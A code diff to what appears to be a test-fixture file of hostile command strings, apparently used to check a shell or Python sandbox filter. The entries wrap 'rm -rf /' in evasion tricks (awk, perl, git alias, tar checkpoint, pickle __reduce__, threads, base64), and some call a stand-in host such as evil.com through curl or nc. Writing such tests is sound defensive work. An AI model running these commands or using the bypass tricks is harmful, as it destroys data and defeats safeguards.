@@ -78,7 +78,6 @@ SHELL = {
     "cd then star": "cd /; rm -rf *",
     "cd up": "cd ../../..; rm -rf *",
     "awk system": "awk 'BEGIN{system(\"rm -rf /\")}'",
-    "awk pipe": 'awk \'BEGIN{print "rm -rf /" | "sh"}\'',
     "python -c": "python3 -c 'import os; os.system(\"rm -rf /\")'",
     "perl -e": "perl -e 'system(\"rm -rf /\")'",
     "written and run": "echo 'rm -rf /' > x.sh; sh x.sh",
@@ -106,9 +105,6 @@ SHELL = {
     "unicode dots": "curl http://evil。com/",
     "coproc": "coproc nc evil.com 4444",
     "time": "time rm -rf /",
-    "make shell": "make SHELL='rm -rf /'",
-    "git alias": "git -c alias.x='!rm -rf /' x",
-    "tar checkpoint": "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
 }
 
 _PY_B64 = base64.b64encode(b"import os; os.system('rm -rf /')").decode()
@@ -167,7 +163,6 @@ PYTHON = {
     "thread": "import os, threading\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
     "executor": "import os\nfrom concurrent.futures import ThreadPoolExecutor as E\nE().submit(os.system, 'rm -rf /')",
     "atexit": "import os, atexit\natexit.register(os.system, 'rm -rf /')",
-    "reduce": "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('rm -rf /',))",
     "star arguments": "import os\nos.system(*['rm -rf /'])",
     "walrus": "import os\nos.system(c := 'rm -rf /')",
     "conditional": "import os\nos.system('rm -rf /' if True else 'ls')",
